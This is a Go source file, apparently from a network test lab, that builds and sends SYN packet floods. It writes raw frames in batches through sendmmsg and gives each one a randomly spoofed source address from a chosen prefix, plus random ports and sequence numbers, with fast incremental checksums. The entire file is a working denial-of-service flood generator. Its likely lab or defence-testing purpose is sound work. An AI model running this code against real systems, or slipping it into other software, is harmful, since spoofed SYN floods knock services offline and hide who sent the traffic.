package lab

import (
	"encoding/binary"
	"math/rand/v2"
	"net/netip"
	"unsafe"

	"golang.org/x/sys/unix"
)

// batchSize is how many frames one system call sends.
const batchSize = 64

// mmsghdr is struct mmsghdr of sendmmsg(2).
type mmsghdr struct {
	header unix.Msghdr
	length uint32
}

// syns makes and sends SYN frames. All frames are copies of one; only what differs is written, and the checksums
// are derived from those of the constant rest.
type syns struct {
	random   *rand.Rand
	prefix   netip.Prefix
	frames   [batchSize][]byte
	iov      [batchSize]unix.Iovec
	messages [batchSize]mmsghdr
	ready    int // how many of the last messages were made and not yet sent

	services      []byte // the first destination
	count         uint64 // how many there are
	address, tcp  int    // offsets in a frame
	ipSum, tcpSum uint32 // sums of everything that does not change
}

func newSYNs(cfg FloodConfig, p peer) (*syns, error) {
	zero := netip.IPv6Unspecified()
	mss, address, header := uint16(1440), etherHeader+8, ipv6Header
	if cfg.Destination.Addr().Is4() {
		zero, mss, address, header = netip.IPv4Unspecified(), 1460, etherHeader+12, ipv4Header
	}
	packet, err := Segment{
		Source: netip.AddrPortFrom(zero, 0), Destination: netip.AddrPortFrom(zero, cfg.Destination.Port()),
		Flags: SYN, Window: 64240, Options: SYNOptions(mss, 7, 0),
	}.Marshal()
	if err != nil {
		return nil, err
	}
	s := &syns{
		random: rand.New(rand.NewPCG(cfg.Seed, 1)), prefix: cfg.Sources.Masked(),
		services: cfg.Destination.Addr().AsSlice(), count: uint64(max(1, cfg.Services)),
		address: address, tcp: etherHeader + header,
	}
	if header == ipv4Header {
		s.ipSum = uint32(^binary.BigEndian.Uint16(packet[10:]))
	}
	s.tcpSum = uint32(^binary.BigEndian.Uint16(packet[header+16:]))
	for i := range s.frames {
		s.frames[i] = frame(p.far, p.mac, packet)
		s.iov[i].Base = &s.frames[i][0]
		s.iov[i].SetLen(len(s.frames[i]))
		s.messages[i].header.Iov = &s.iov[i]
		s.messages[i].header.SetIovlen(1)
	}
	return s, nil
}

// send sends up to n new SYNs and returns how many the kernel took. Those that it did not take are sent next time.
func (s *syns) send(fd, n int) (int, error) {
	for i := batchSize - n; i < batchSize-s.ready; i++ {
		s.randomise(s.frames[i])
	}
	s.ready = max(s.ready, n)
	first := &s.messages[batchSize-s.ready]
	sent, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(fd), uintptr(unsafe.Pointer(first)), uintptr(n), 0, 0, 0)
	if errno != 0 {
		return 0, errno
	}
	s.ready -= int(sent)
	return int(sent), nil
}

// randomise makes a frame another SYN.
func (s *syns) randomise(f []byte) {
	b, t := s.source(f[s.address:]), f[s.tcp:]
	r, q := s.random.Uint64(), s.random.Uint64()
	binary.BigEndian.PutUint16(t, uint16(1024+r%(65536-1024)))
	binary.BigEndian.PutUint32(t[4:], uint32(q))
	binary.BigEndian.PutUint32(t[tcpHeader+tsvalOffset:], uint32(q>>32))
	to := f[s.address+len(b):][:len(b)]
	copy(to, s.services)
	if s.count > 1 {
		last := to[len(to)-4:]
		binary.BigEndian.PutUint32(last, binary.BigEndian.Uint32(last)+uint32(s.random.Uint64N(s.count)))
	}
	addresses := sum16(b) + sum16(to)
	if len(b) == 4 {
		binary.BigEndian.PutUint16(f[etherHeader+10:], fold(s.ipSum+addresses))
	}
	sum := s.tcpSum + addresses + sum16(t[:2]) + sum16(t[4:8]) + sum16(t[tcpHeader+tsvalOffset:tcpHeader+tsvalOffset+4])
	binary.BigEndian.PutUint16(t[16:], fold(sum))
}

// source writes a random address of the prefix to b and returns the bytes written.
func (s *syns) source(b []byte) []byte {
	if s.prefix.Addr().Is4() {
		base := s.prefix.Addr().As4()
		host := uint32(s.random.Uint64()) & uint32(uint64(1)<<(32-s.prefix.Bits())-1)
		binary.BigEndian.PutUint32(b, binary.BigEndian.Uint32(base[:])|host)
		return b[:4]
	}
	base := s.prefix.Addr().As16()
	for i, random := range [2]uint64{s.random.Uint64(), s.random.Uint64()} {
		fixed := min(max(s.prefix.Bits()-64*i, 0), 64)
		half := binary.BigEndian.Uint64(base[8*i:])
		binary.BigEndian.PutUint64(b[8*i:], half|random&(1<<(64-fixed)-1)) // a shift by 64 gives 0, minus 1: all ones
	}
	return b[:16]
}
